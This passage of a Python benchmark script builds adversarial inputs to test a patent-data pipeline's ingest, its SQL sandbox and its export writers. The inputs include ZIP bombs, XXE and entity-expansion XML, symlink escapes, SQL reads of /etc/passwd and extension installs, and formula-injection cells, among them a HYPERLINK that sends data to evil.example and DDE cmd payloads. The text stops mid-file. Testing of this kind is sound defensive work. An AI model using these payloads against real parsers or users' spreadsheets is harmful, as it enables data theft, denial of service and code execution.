"""Adversarial inputs against ingest, the SQL sandbox and the export writers: a reliability table.

    python benchmarks/hostile.py [--quick] [--keep] [--timeout 300] [--cap-gib 8]

Every input is built at run time in a temporary folder (deleted at the end unless
``--keep``) and labelled in the table: GENERATED (written from nothing but this script's
fixed seeds and literals) or MUTATED (a real record of ../shared/data, changed; the
legend under the table names the file and rows). Nothing is written inside the checkout.

Kinds: ``workbook`` (ZIP bombs, sheets declaring 20M rows or too many cells, a workbook
over ``workbook_mb``, ZIP sizes understated, a damaged byte), ``csv`` (control bytes, 200,000-character
cells, UTF-16, GB18030, random bytes; through ``pipeline.ingest`` and
:func:`pipeline.io.read_list`), ``uspto-xml`` (a 12 MiB text node, declarations inside
comments and CDATA, an unclosed comment, control characters, entity expansion, external
entities, deep nesting), ``repeats`` (a real export row repeated 2,001 rows later, one
publication with two titles in two files), ``paths`` (Rich markup, spaces and Chinese in
file names, named pipes, symbolic links), ``sql`` (file, extension and setting access from
:func:`pipeline.db.query`) and ``export`` (formula and XML-illegal cells through
:func:`pipeline.io.write_export` / :func:`pipeline.io.write_workbook`, read back).

Each input runs in a fresh interpreter pinned to core 0 (taskset, when present), so its
peak RSS (VmHWM) is its own; ``s`` is the time of the call alone, not of the imports.
The child's address space is capped (``--cap-gib``, default 8) so that a runaway
allocation fails in the child, counted as a crash, instead of exhausting the machine.

Columns
-------
outcome
    ``read: N records, all accounted (accepted+merged+rejected = N)``; ``named error:
    <Class>: <first line>`` (a :class:`pipeline.errors.PatNavError`); ``refused
    (QueryRefusedError)``; ``neutralised`` (exports); ``ran: …`` (the SQL control query).
crash
    Class of any exception that is not a ``PatNavError`` (for ``sql``: anything but
    ``QueryRefusedError``), a timeout, or a child killed by a signal. 0 expected.
lost
    records − (accepted + merged duplicates + rejected), summed over the report's files.
    0 expected; ``-`` where no record count applies.
breach
    What got through: text of a file outside the input (external entity, symbolic link)
    found in the canonical tables; a SQL statement that ran or left a file behind; export
    cells that would run as formulas or still hold XML-illegal characters. 0 expected.
peak MiB, s
    The child's peak RSS and the call's seconds. Budget: no input may make a process hold
    more than the baseline (interpreter and imports, measured alone) plus
    ``ingest.limits.workbook_mb`` MiB, the most one workbook may expand to.

Limits are ``ingest.limits`` of params.yaml, as the stage uses them. ``--quick`` skips the
1 GiB shared-string bomb and does not build a workbook over 512 MiB: its input, marked
SIMULATED, adds 2 MiB to the real workbook and lowers ``workbook_mb`` to that workbook's
own size rounded up. Where the number of records written is known, a reader that counts
another number is noted under the row (e.g. an unterminated quote joining rows): the
report still reconciles, so it is not counted as lost. Exit status 1 if any input
crashed, lost a record, let something through or exceeded the memory budget.
"""

from __future__ import annotations

import argparse
import csv
import io
import json
import os
import random
import re
import resource
import shutil
import signal
import struct
import subprocess
import sys
import tempfile
import time
import traceback
import zipfile
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
SHARED = ROOT.parent / "shared" / "data"
sys.path.insert(0, str(ROOT))

from benchmarks.ingest import _csv_text, _has_taskset, _peak_mib, load_line, machine_line  # noqa: E402

PATSNAP = SHARED / "cn-exports" / "patsnap_green_aviation_1999.xlsx"
INCOPAT = SHARED / "cn-exports" / "incopat_autonomous_driving_10000.xlsx"
USPTO = SHARED / "uspto-xml" / "ipgxml__ipg130416.small.xml"  # 0 USD0680087, 1 USD0680199, 2 US08418361
USPTO_DB = SHARED / "uspto-xml" / "xml__ipg120327.18.xml"  # 18 grants: the database the SQL runs on
SOURCES = {  # legend of the "data" column
    "patsnap": f"{PATSNAP.relative_to(SHARED)}: rows of the real PatSnap export",
    "incopat": f"{INCOPAT.relative_to(SHARED)}: rows of the real incoPat export",
    "uspto": f"{USPTO.relative_to(SHARED)}: real grants USD0680087, USD0680199, US08418361",
    "uspto-db": f"{USPTO_DB.relative_to(SHARED)}: 18 real grants, ingested unchanged into the database "
                "the SQL statements run on",
}
KINDS = ("workbook", "csv", "uspto-xml", "repeats", "paths", "sql", "export")
SECRET = "PATNAV-SECRET-7F3A"  # a marker no real record holds: found in a table = a leak
NS = "http://schemas.openxmlformats.org"


@dataclass
class Case:
    """One adversarial input: what it is, where it comes from, and the call a child makes."""

    kind: str
    name: str
    data: str  # "GENERATED" or "MUTATED <source key>"
    spec: dict
    result: dict = field(default_factory=dict)


# ------------------------------------------------------------------------------ real records
def real_rows(path: Path, n: int) -> tuple[list[str], list[list[str]]]:
    """Header and the first ``n`` data rows of a real export, read with python-calamine.

    Parameters
    ----------
    path : Path
        A real workbook of ../shared/data/cn-exports.
    n : int
        Data rows wanted.

    Returns
    -------
    header, rows
        Cells as Excel's "Save as CSV" writes them (dates ISO, 5.0 as 5).
    """
    from python_calamine import CalamineWorkbook

    rows = CalamineWorkbook.from_path(str(path)).get_sheet_by_index(0).to_python(nrows=n + 1)
    header = [_csv_text(v) for v in rows[0]]
    return header, [[_csv_text(v) for v in r] for r in rows[1:]]


def real_xml_docs() -> list[bytes]:
    """The documents of the real weekly slice, byte-exact (from one ``<?xml`` to the next)."""
    data = USPTO.read_bytes()
    starts = [m.start() for m in re.finditer(rb"<\?xml\s", data)]
    return [data[a:b] for a, b in zip(starts, [*starts[1:], len(data)])]


def csv_bytes(header: list[str], rows: list[list[str]], encoding: str = "utf-8-sig", delimiter: str = ",") -> bytes:
    """A CSV file's bytes as Excel writes them (quoted where needed, CRLF), in ``encoding``."""
    buf = io.StringIO()
    w = csv.writer(buf, delimiter=delimiter, lineterminator="\r\n")
    w.writerow(header)
    w.writerows(rows)
    return buf.getvalue().encode(encoding)


def col(header: list[str], name: str) -> int:
    """0-based index of a real export's column (an error names it if the export changed)."""
    if name not in header:
        raise KeyError(f"column {name!r} not in the real export's header")
    return header.index(name)


# ------------------------------------------------------------------------------ workbooks
def _skeleton(zf: zipfile.ZipFile, sheet_xml: str, shared: bool) -> None:
    """The members of a minimal XLSX of one sheet ``结果`` (and a shared-string table)."""
    sst = ('<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.'
           'spreadsheetml.sharedStrings+xml"/>') if shared else ""
    zf.writestr("[Content_Types].xml", f'<Types xmlns="{NS}/package/2006/content-types">'
                '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
                '<Default Extension="xml" ContentType="application/xml"/>'
                '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.'
                'spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType='
                f'"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>{sst}</Types>')
    rel = f"{NS}/officeDocument/2006/relationships"
    zf.writestr("_rels/.rels", f'<Relationships xmlns="{NS}/package/2006/relationships"><Relationship Id="rId1" '
                f'Type="{rel}/officeDocument" Target="xl/workbook.xml"/></Relationships>')
    zf.writestr("xl/workbook.xml", f'<workbook xmlns="{NS}/spreadsheetml/2006/main" xmlns:r="{NS}/officeDocument/'
                '2006/relationships"><sheets><sheet name="结果" sheetId="1" r:id="rId1"/></sheets></workbook>')
    rels = f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/>'
    if shared:
        rels += f'<Relationship Id="rId2" Type="{rel}/sharedStrings" Target="sharedStrings.xml"/>'
    zf.writestr("xl/_rels/workbook.xml.rels",
                f'<Relationships xmlns="{NS}/package/2006/relationships">{rels}</Relationships>')
    zf.writestr("xl/worksheets/sheet1.xml", sheet_xml)


def shared_strings_bomb(path: Path, header: list[str], row: list[str], mib: int) -> Path:
    """A valid XLSX of one real header and record whose shared-string table is padded to ``mib`` MiB.

    The padding is 32,000-character strings, which deflate takes ~1000-fold (1 GiB -> ~1 MB):
    a reader that loads the table whole holds ``mib`` MiB.

    Parameters
    ----------
    path : Path
        Where to write the workbook.
    header, row : list of str
        The real header and record; the sheet's cells point into the table.
    mib : int
        Uncompressed size of the shared-string table.

    Returns
    -------
    Path
        ``path``.
    """
    def letters(j: int) -> str:
        s = ""
        j += 1
        while j:
            j, r = divmod(j - 1, 26)
            s = chr(65 + r) + s
        return s

    def cells(r: int, first: int, n: int) -> str:
        body = "".join(f'<c r="{letters(j)}{r}" t="s"><v>{first + j}</v></c>' for j in range(n))
        return f'<row r="{r}">{body}</row>'

    n = len(header)
    sheet = (f'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="{NS}/spreadsheetml/2006/main"><sheetData>'
             + cells(1, 0, n) + cells(2, n, n) + "</sheetData></worksheet>")
    from xml.sax.saxutils import escape

    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=6) as zf:
        _skeleton(zf, sheet, shared=True)
        with zf.open("xl/sharedStrings.xml", "w", force_zip64=True) as fh:
            fh.write(f'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="{NS}/spreadsheetml/2006/main">'.encode())
            for s in [*header, *row]:
                fh.write(f'<si><t xml:space="preserve">{escape(s)}</t></si>'.encode())
            block = (b"<si><t>" + b"A" * 32_000 + b"</t></si>") * 32
            for _ in range((mib << 20) // len(block)):
                fh.write(block)
            fh.write(b"</sst>")
    return path


def understate_size(path: Path, member: str, size: int) -> Path:
    """Make a ZIP lie: ``member``'s uncompressed size rewritten in its local header and its
    central directory entry (the CRC stays that of the real data).

    Parameters
    ----------
    path : Path
        The archive, changed in place.
    member : str
        Its member name.
    size : int
        The size declared from now on.

    Returns
    -------
    Path
        ``path``.
    """
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as zf:
        info = zf.getinfo(member)
    if info.file_size >= 0xFFFFFFFF or info.compress_size >= 0xFFFFFFFF:
        raise RuntimeError(f"{member}: ZIP64 sizes are not patched here")
    struct.pack_into("<I", data, info.header_offset + 22, size)
    name, i = member.encode(), 0
    while (i := data.find(b"PK\x01\x02", i)) != -1:
        n = struct.unpack_from("<H", data, i + 28)[0]
        if bytes(data[i + 46:i + 46 + n]) == name:
            struct.pack_into("<I", data, i + 24, size)
        i += 4
    path.write_bytes(data)
    return path


def mutate_workbook(src: Path, dest: Path, *, dimension: str | None = None, extra_row: str | None = None,
                    extra_member: tuple[str, int] | None = None) -> Path:
    """A copy of a real workbook, changed.

    Parameters
    ----------
    src, dest : Path
        The real workbook and the copy.
    dimension : str, optional
        New ``ref`` of the first sheet's ``<dimension>`` (what the sheet declares it spans).
    extra_row : str, optional
        Row XML appended to the first sheet's data.
    extra_member : (str, int), optional
        A member of that name and that many incompressible bytes (seeded), as an embedded
        image would be.

    Returns
    -------
    Path
        ``dest``.
    """
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                if dimension:
                    new = f'<dimension ref="{dimension}"/>'.encode()
                    data, n = re.subn(rb'<dimension ref="[^"]*"/>', new, data, count=1)
                    assert n == 1, "no <dimension> in the real sheet"
                if extra_row:
                    data = data.replace(b"</sheetData>", extra_row.encode() + b"</sheetData>", 1)
            zout.writestr(info, data)
        if extra_member:
            name, n = extra_member
            rnd = random.Random(0)
            with zout.open(zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0)), "w", force_zip64=True) as fh:
                for _ in range(n >> 24):
                    fh.write(rnd.randbytes(1 << 24))
                fh.write(rnd.randbytes(n & ((1 << 24) - 1)))
    return dest


def flip_byte(src: Path, dest: Path, member: str, offset: int) -> Path:
    """A copy of a real workbook with one byte of ``member``'s compressed data inverted, as a
    damaged download or disk would leave it (sizes and CRC unchanged)."""
    data = bytearray(src.read_bytes())
    with zipfile.ZipFile(src) as zf:
        info = zf.getinfo(member)
    name_len, extra_len = struct.unpack_from("<HH", data, info.header_offset + 26)
    data[info.header_offset + 30 + name_len + extra_len + offset] ^= 0xFF
    dest.write_bytes(data)
    return dest


def far_cell(ref: str) -> str:
    """A row holding one inline-string cell at ``ref`` (``A20000000``): a sheet's far corner."""
    row = "".join(ch for ch in ref if ch.isdigit())
    return f'<row r="{row}"><c r="{ref}" t="inlineStr"><is><t>x</t></is></c></row>'


def build_workbooks(tmp: Path, quick: bool) -> list[Case]:
    """Workbook bombs and oversized sheets, from the real PatSnap export (``quick``: no 1 GiB, no 520 MiB)."""
    d = tmp / "workbook"
    d.mkdir()
    header, rows = real_rows(PATSNAP, 1)
    cases = []

    def add(name, path, data, limits=None, written=None):
        spec = {"fn": "ingest", "paths": [str(path)], **({"limits": limits} if limits else {})}
        cases.append(Case("workbook", name, data, {**spec, **({"written": written} if written else {})}))

    if not quick:  # 1 GiB of deflate takes ~5 s to write
        p = shared_strings_bomb(d / "sst_1gib.xlsx", header, rows[0], 1024)
        add(f"shared strings 1 GiB in {p.stat().st_size / 1e6:.1f} MB file", p, "MUTATED patsnap r1")
    p = shared_strings_bomb(d / "sst_256mib.xlsx", header, rows[0], 256)
    add(f"shared strings 256 MiB in {p.stat().st_size / 1e6:.2f} MB (< workbook_mb)", p, "MUTATED patsnap r1")
    # The sizes a ZIP declares are what check_archive trusts: make them lie.
    for label, size in (("1 KiB", 1 << 10), ("4 MiB", 4 << 20)):
        p = shared_strings_bomb(d / f"sst_lie_{label.replace(' ', '')}.xlsx", header, rows[0], 256)
        add(f"shared strings 256 MiB declared as {label}", understate_size(p, "xl/sharedStrings.xml", size),
            "MUTATED patsnap r1")
    p = mutate_workbook(PATSNAP, d / "dim_20m.xlsx", dimension="A1:AG20000000")
    add(f"<dimension> declares 20M rows ({p.stat().st_size / 1e6:.1f} MB)", p, "MUTATED patsnap all", written=1999)
    p = mutate_workbook(PATSNAP, d / "row_20m.xlsx", dimension="A1:AG20000000", extra_row=far_cell("A20000000"))
    add(f"20M rows: last row r=20000000 ({p.stat().st_size / 1e6:.1f} MB)", p, "MUTATED patsnap all")
    p = mutate_workbook(PATSNAP, d / "cells.xlsx", extra_row=far_cell("AG700000"))
    add("sparse: cell AG700000 (33 x 700k > sheet_cells)", p, "MUTATED patsnap all")
    p = mutate_workbook(PATSNAP, d / "xfd.xlsx", extra_row=far_cell("XFD2001"))
    add("sparse: cell XFD2001 (16,384 columns)", p, "MUTATED patsnap all")
    for member in ("xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"):
        p = flip_byte(PATSNAP, d / f"flip_{Path(member).stem}.xlsx", member, 100)
        add(f"byte 100 of {Path(member).name} inverted (damaged file)", p, "MUTATED patsnap all")
    if quick:
        # The lowered limit is the real workbook's own size rounded up: it passes, the copy does not.
        with zipfile.ZipFile(PATSNAP) as zf:
            mib = -(-sum(i.file_size for i in zf.infolist()) >> 20)
        p = mutate_workbook(PATSNAP, d / "big.xlsx", extra_member=("xl/media/image1.bin", 2 << 20))
        add(f"+2 MiB random member, workbook_mb lowered to {mib} (SIMULATED)", p, "MUTATED patsnap all",
            limits={"workbook_mb": mib})
    else:
        p = mutate_workbook(PATSNAP, d / "big.xlsx", extra_member=("xl/media/image1.bin", 520 << 20))
        add(f"+520 MiB random member ({p.stat().st_size / 2**20:.0f} MiB file)", p, "MUTATED patsnap all")
    return cases


# ------------------------------------------------------------------------------ CSV
def build_csv(tmp: Path) -> list[Case]:
    """CSV files of 20 real PatSnap rows, mutated, and random bytes; ingested and read as lists."""
    d = tmp / "csv"
    d.mkdir()
    header, rows = real_rows(PATSNAP, 20)
    ti, ab = col(header, "标题(译)(简体中文)"), col(header, "摘要(译)(简体中文)")
    cases = []

    def write(name: str, data: bytes) -> Path:
        (d / name).write_bytes(data)
        return d / name

    ctl = [list(r) for r in rows]
    for k, c in enumerate(["\x00", "\x01", "\x07", "\x08", "\x0b", "\x0c", "\x1b", "\x1f", "\x00\x00\x00", "\x7f"]):
        t = ctl[k][ti]
        ctl[k][ti] = t[: len(t) // 2] + c + t[len(t) // 2:]
    long_ab = [list(r) for r in rows]
    long_ab[0][ab] = (long_ab[0][ab] * (200_000 // len(long_ab[0][ab]) + 1))[:200_000]
    long_ti = [list(r) for r in rows]
    long_ti[0][ti] = (long_ti[0][ti] * (200_000 // len(long_ti[0][ti]) + 1))[:200_000]
    quote = [list(r) for r in rows]
    quote[3][ti] = '"' + quote[3][ti]  # written raw below: a quote that never closes

    # The unterminated quote is written raw (csv would double it): cells lose their commas and line breaks.
    raw = "\r\n".join(",".join(re.sub(r"[,\r\n]", " ", c) for c in r) for r in [header, *quote]).encode("utf-8")
    utf16le = b"\xff\xfe" + csv_bytes(header, rows, "utf-16-le", "\t")  # Excel's "Unicode text"
    real = "MUTATED patsnap r1-20"
    inputs = {
        "NUL and control bytes in 10 titles": (write("ctl.csv", csv_bytes(header, ctl)), real),
        "abstract cell of 200,000 characters": (write("long_abstract.csv", csv_bytes(header, long_ab)), real),
        "title cell of 200,000 characters": (write("long_title.csv", csv_bytes(header, long_ti)), real),
        "UTF-16-LE with BOM, tab-separated": (write("utf16.csv", utf16le), real),
        "UTF-16-BE with BOM": (write("utf16be.csv", b"\xfe\xff" + csv_bytes(header, rows, "utf-16-be")), real),
        "UTF-16-LE without BOM (NUL bytes)": (write("utf16nobom.csv", csv_bytes(header, rows, "utf-16-le")), real),
        "GB18030": (write("gb18030.csv", csv_bytes(header, rows, "gb18030")), real),
        "unterminated quote in row 4": (write("quote.csv", raw), real),
        "random bytes, 64 KiB": (write("random.csv", random.Random(0).randbytes(64 << 10)), "GENERATED"),
        "real header + 64 KiB random bytes": (write("header_random.csv", csv_bytes(header, [])
                                                    + random.Random(1).randbytes(64 << 10)), "MUTATED patsnap header"),
    }
    for name, (path, data) in inputs.items():
        written = {} if data == "GENERATED" or "header" in data else {"written": 20}
        cases.append(Case("csv", name, data, {"fn": "ingest", "paths": [str(path)], **written}))
    for name in ("NUL and control bytes in 10 titles", "abstract cell of 200,000 characters",
                 "UTF-16-LE with BOM, tab-separated", "GB18030", "random bytes, 64 KiB"):
        path, data = inputs[name]
        cases.append(Case("csv", f"read_list: {name}", data, {"fn": "read_list", "path": str(path)}))
    return cases


# ------------------------------------------------------------------------------ USPTO XML
def build_xml(tmp: Path) -> list[Case]:
    """Real USPTO grants, mutated: long text, hidden declarations, entities, nesting."""
    d = tmp / "uspto-xml"
    d.mkdir()
    g0, g1, g2 = real_xml_docs()[:3]
    secret = tmp / "secret.txt"
    secret.write_text(f"{SECRET} root:x:0:0\n", encoding="utf-8")
    (tmp / "evil.dtd").write_text(f'<!ENTITY leak "{SECRET}">', encoding="utf-8")
    m = re.search(rb'<abstract id="abstract">(.*?)</abstract>', g2, re.S)
    abstract_text = re.sub(rb"<[^>]+>", b" ", m.group(1)).strip()
    title = b">Method of manufacturing"

    def subset(doc: bytes, decls: bytes) -> bytes:
        out, n = re.subn(rb"(<!DOCTYPE us-patent-grant SYSTEM \"[^\"]*\") \[ \]>", rb"\1 [" + decls + rb"]>", doc, 1)
        assert n == 1, "no internal DTD subset in the real document"
        return out

    def in_title(doc: bytes, text: bytes) -> bytes:
        assert title in doc
        return doc.replace(title, b">" + text + b" Method of manufacturing", 1)

    def in_abstract(doc: bytes, inner: bytes) -> bytes:
        return doc.replace(b"</abstract>", b'<p id="p-9999">' + inner + b"</p></abstract>", 1)

    text_12m = (abstract_text + b" ") * ((12 << 20) // (len(abstract_text) + 1) + 1)
    lol = b"".join(b'<!ENTITY lol%d "%s">' % (i, (b"&lol%d;" % (i - 1)) * 10 if i else b"lol") for i in range(10))
    quad = b'<!ENTITY a "' + b"A" * 50_000 + b'">'
    inputs = {
        "text node of 12 MiB in the abstract": (g2.replace(b"</abstract>", b'<p id="p-9999">' + text_12m[: 12 << 20]
                                                           + b"</p></abstract>", 1)),
        "<?xml inside a comment": g0.replace(b"<us-patent-grant ", b'<!-- as sent: <?xml version="1.0"?> -->\n'
                                             b"<us-patent-grant ", 1) + g1,
        "<?xml inside CDATA": in_abstract(g2, b'<![CDATA[ <?xml version="1.0"?> ]]>') + g1,
        "unclosed comment (3 documents)": g0.replace(b"<us-patent-grant ", b"<!-- never closed\n<us-patent-grant ", 1)
                                           + g1 + g2,
        "control characters in title": g0 + in_title(g2, b"\x01 \x00 &#x1F; &#0; \x1b"),
        "billion laughs (10^9 expansion)": subset(g2, lol).replace(title, b">&lol9; Method of manufacturing", 1),
        "quadratic blowup (50k x 50 kB entity)": in_abstract(subset(g2, quad), b"&a;" * 50_000),
        "XXE: SYSTEM file entity": in_abstract(subset(g2, f'<!ENTITY xxe SYSTEM "file://{secret}">'.encode()),
                                               b"&xxe;").replace(title, b">&xxe; Method of manufacturing", 1),
        "XXE: parameter entity + external DTD": in_abstract(
            subset(g2, f'<!ENTITY % ext SYSTEM "file://{tmp / "evil.dtd"}"> %ext;'.encode()), b"&leak;"),
        "XXE: DTD over http (127.0.0.1:9)": g2.replace(b'SYSTEM "us-patent-grant',
                                                       b'SYSTEM "http://127.0.0.1:9/us-patent-grant', 1),
        "nesting 100,000 elements deep": in_abstract(g2, b"<b>" * 100_000 + b"x" + b"</b>" * 100_000),
    }
    cases = []
    for k, (name, data) in enumerate(inputs.items()):
        path = d / f"doc{k:02d}.xml"
        path.write_bytes(data)
        docs = len(re.findall(rb"<us-patent-grant ", data))  # the declarations may be hidden, the roots are not
        cases.append(Case("uspto-xml", name, "MUTATED uspto",
                          {"fn": "ingest", "paths": [str(path)], "forbid": [SECRET], "written": docs}))
    return cases


# ------------------------------------------------------------------------------ repeats
def build_repeats(tmp: Path) -> list[Case]:
    """A real incoPat row repeated 2,001 rows later; a real PatSnap row with two titles in two files."""
    d = tmp / "repeats"
    d.mkdir()
    header, rows = real_rows(INCOPAT, 2001)
    rep = [*rows, rows[0]]  # record 2001 repeats record 0: 2,001 rows apart, in the next batch of 2,000
    (d / "repeat.csv").write_bytes(csv_bytes(header, rep))
    from openpyxl import Workbook

    wb = Workbook(write_only=True)
    ws = wb.create_sheet("结果")
    for r in [header, *rep]:
        ws.append(r)
    wb.save(d / "repeat.xlsx")
    ph, prow = real_rows(PATSNAP, 1)
    ti = col(ph, "标题(译)(简体中文)")
    other = list(prow[0])
    other[ti] = other[ti] + "（修订）"
    (d / "a.csv").write_bytes(csv_bytes(ph, prow))
    (d / "b.csv").write_bytes(csv_bytes(ph, [other]))
    batches = {"batch_size": 2000, "table_batch_size": 2000}
    return [
        Case("repeats", "row 1 repeated as row 2002, CSV, batches of 2,000", "MUTATED incopat r1-2001",
             {"fn": "ingest", "paths": [str(d / "repeat.csv")], **batches, "expect_merged": 1, "written": 2002}),
        Case("repeats", "row 1 repeated as row 2002, XLSX, batches of 2,000", "MUTATED incopat r1-2001",
             {"fn": "ingest", "paths": [str(d / "repeat.xlsx")], **batches, "expect_merged": 1, "written": 2002}),
        Case("repeats", "same publication, other title, two files", "MUTATED patsnap r1",
             {"fn": "ingest", "paths": [str(d / "a.csv"), str(d / "b.csv")], "expect_merged": 1, "written": 2}),
    ]


# ------------------------------------------------------------------------------ paths
def build_paths(tmp: Path) -> list[Case]:
    """Markup, spaces and Chinese in file names; named pipes; symbolic links out of the input."""
    d = tmp / "paths"
    d.mkdir()
    header, rows = real_rows(PATSNAP, 12)
    ti = col(header, "标题(译)(简体中文)")
    cases = []
    for k, name in enumerate(["evil[/b].csv", "b[bold red]x.csv", " spaced  name .csv", "中文 专利 导出.csv"]):
        path = d / "names" / name
        path.parent.mkdir(parents=True, exist_ok=True)  # "evil[/b].csv" is "b].csv" in the folder "evil["
        path.write_bytes(csv_bytes(header, [rows[k]]))
        cases.append(Case("paths", f"file name {name!r}", "MUTATED patsnap r%d" % (k + 1),
                          {"fn": "ingest", "paths": [str(path)], "label_literal": True, "written": 1}))
    bad = d / "unknown" / "b[bold red]x[/].csv"
    bad.parent.mkdir(parents=True)  # the "/" in "[/]" makes a folder "b[bold red]x["
    bad.write_text("x,y\n1,2\n", encoding="utf-8")
    cases.append(Case("paths", "'b[bold red]x[/].csv' of unknown layout", "GENERATED",
                      {"fn": "ingest", "paths": [str(bad)], "message_names": str(bad)}))
    pipe_dir = d / "pipe"
    pipe_dir.mkdir()
    (pipe_dir / "in.csv").write_bytes(csv_bytes(header, [rows[4]]))
    os.mkfifo(pipe_dir / "pipe.csv")  # opening it would block until someone writes to it
    cases.append(Case("paths", "named pipe in a folder", "MUTATED patsnap r5",
                      {"fn": "ingest", "paths": [str(pipe_dir)], "written": 1}))
    cases.append(Case("paths", "named pipe given as the input", "GENERATED",
                      {"fn": "ingest", "paths": [str(pipe_dir / "pipe.csv")]}))
    outside = d / "outside"
    outside.mkdir()
    (outside / "secret.csv").write_bytes(csv_bytes(header, [rows[6]]))
    link_dir = d / "links"
    link_dir.mkdir()
    (link_dir / "in.csv").write_bytes(csv_bytes(header, [rows[5]]))
    (link_dir / "outside.csv").symlink_to(outside / "secret.csv")
    (link_dir / "outside_dir").symlink_to(outside, target_is_directory=True)
    (link_dir / "loop_a.csv").symlink_to(link_dir / "loop_b.csv")
    (link_dir / "loop_b.csv").symlink_to(link_dir / "loop_a.csv")
    (link_dir / "dangling.csv").symlink_to(d / "nowhere.csv")
    cases.append(Case("paths", "folder: links to a file and a folder outside, a loop, a dangling link",
                      "MUTATED patsnap r6-7",
                      {"fn": "ingest", "paths": [str(link_dir)], "forbid": [rows[6][ti]], "written": 1}))
    zero = d / "zero.csv"
    zero.symlink_to("/dev/zero")
    cases.append(Case("paths", "zero.csv -> /dev/zero given as the input", "GENERATED",
                      {"fn": "ingest", "paths": [str(zero)]}))
    return cases


# ------------------------------------------------------------------------------ SQL
def build_sql(tmp: Path) -> list[Case]:
    """The database is built from 18 real grants through the public API (ingest, write, build)."""
    import duckdb

    import pipeline
    from pipeline import db, io as pio

    d = tmp / "sql"
    d.mkdir()
    res = pipeline.ingest([USPTO_DB])
    pio.write_tables(res.tables, d / "canonical")
    path = d / "patnav.duckdb"
    db.build(d / "canonical", path)
    with duckdb.connect(str(d / "other.duckdb")) as con:
        con.execute(f"CREATE TABLE t AS SELECT '{SECRET}' AS s")
    (d / "secret.csv").write_text(f"user,password\nroot,{SECRET}\n", encoding="utf-8")
    home = tmp / "home"  # the children's HOME: where DuckDB would put a downloaded extension
    queries = [
        ("COPY (SELECT 1) TO '$TMP/x.csv'", f"COPY (SELECT 1) TO '{d / 'x.csv'}'", {"absent": [str(d / "x.csv")]}),
        ("SELECT * FROM read_csv('/etc/passwd')", "SELECT * FROM read_csv('/etc/passwd')", {"forbid": ["root:"]}),
        ("SELECT * FROM '$TMP/secret.csv'", f"SELECT * FROM '{d / 'secret.csv'}'", {"forbid": [SECRET]}),
        ("SELECT * FROM glob('/etc/*')", "SELECT * FROM glob('/etc/*')", {"forbid": ["/etc/"]}),
        ("INSTALL httpfs", "INSTALL httpfs", {"empty": [str(home)]}),
        ("LOAD httpfs", "LOAD httpfs", {}),
        ("ATTACH '$TMP/other.duckdb' AS o", f"ATTACH '{d / 'other.duckdb'}' AS o", {}),
        ("SET enable_external_access=true", "SET enable_external_access=true", {}),
        ("SET lock_configuration=false", "SET lock_configuration=false", {}),
        ("EXPORT DATABASE '$TMP/exp'", f"EXPORT DATABASE '{d / 'exp'}'", {"absent": [str(d / "exp")]}),
    ]
    # The statements are this script's own; the database they run on holds real records, unchanged.
    cases = [Case("sql", label, "GENERATED, db uspto-db", {"fn": "sql", "db": str(path), "sql": sql, **checks})
             for label, sql, checks in queries]
    # A control: the sandbox still answers an ordinary query (a sandbox refusing everything would pass the rest).
    cases.append(Case("sql", "control: SELECT count(*) FROM patents", "GENERATED, db uspto-db",
                      {"fn": "sql", "db": str(path), "sql": "SELECT count(*) AS n FROM patents", "expect": "ran"}))
    return cases


# ------------------------------------------------------------------------------ exports
EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"{}")'


def build_exports(tmp: Path) -> list[Case]:
    """A table of formula payloads and XML-illegal characters around real names and titles."""
    d = tmp / "export"
    d.mkdir()
    header, rows = real_rows(PATSNAP, 8)
    ap, ti = col(header, "[标]当前申请(专利权)人"), col(header, "标题(译)(简体中文)")
    names = [r[ap] for r in rows]
    titles = [r[ti] for r in rows]
    table = {
        "names": [EVIL.format(names[0]), "+cmd|' /C calc'!A0 " + names[1], "-2+3+cmd|' /C calc'!A0",
                  "@SUM(1+1)*cmd|' /C calc'!A0",
                  "\t=1+1 " + names[4], "\r=1+1 " + names[5], "=" + names[6], names[7]],
        "titles": [titles[0][:4] + c + titles[0][4:]
                   for c in ["\x00", "\x1f", "\x0b", "\ud800", "\ufffe", "\uffff", "\x08", ""]],
        EVIL.format("header"): [1, -5, 0, 2, 3, 4, 5, -6],  # a formula header over plain numbers
        "+h": [0.5, -1.25, 2.0, 0.0, 1.0, 1.0, 1.0, -0.5],
    }
    # ensure_ascii: the lone surrogate survives the trip to the child as \ud800
    (d / "table.json").write_text(json.dumps(table, ensure_ascii=True), encoding="utf-8")
    spec = {"fn": "export", "table": str(d / "table.json")}
    return [
        Case("export", "write_export .xlsx: formula cells + XML-illegal chars", "MUTATED patsnap r1-8",
             {**spec, "out": str(d / "r.xlsx")}),
        Case("export", "write_export .csv: the same cells", "MUTATED patsnap r1-8", {**spec, "out": str(d / "r.csv")}),
        Case("export", "write_workbook: 2 sheets named '=cmd', 'a/b[1]'", "MUTATED patsnap r1-8",
             {**spec, "out": str(d / "w.xlsx"), "sheets": ["=cmd", "a/b[1]"]}),
    ]


# ------------------------------------------------------------------------------ children
def _first_line(text: object) -> str:
    """The first line of a message."""
    return (str(text).strip().splitlines() or [""])[0]


def _strings(tables: dict) -> Iterator[str]:
    """Every text cell of the canonical tables."""
    for df in tables.values():
        for c in df.columns:
            if df[c].dtype == object or str(df[c].dtype).startswith("string"):
                for v in df[c]:
                    if isinstance(v, str):
                        yield v


def _run_ingest(spec: dict, res: dict) -> None:
    """``pipeline.ingest`` on the spec's paths with the stage's limits: reconcile the report, look for leaks."""
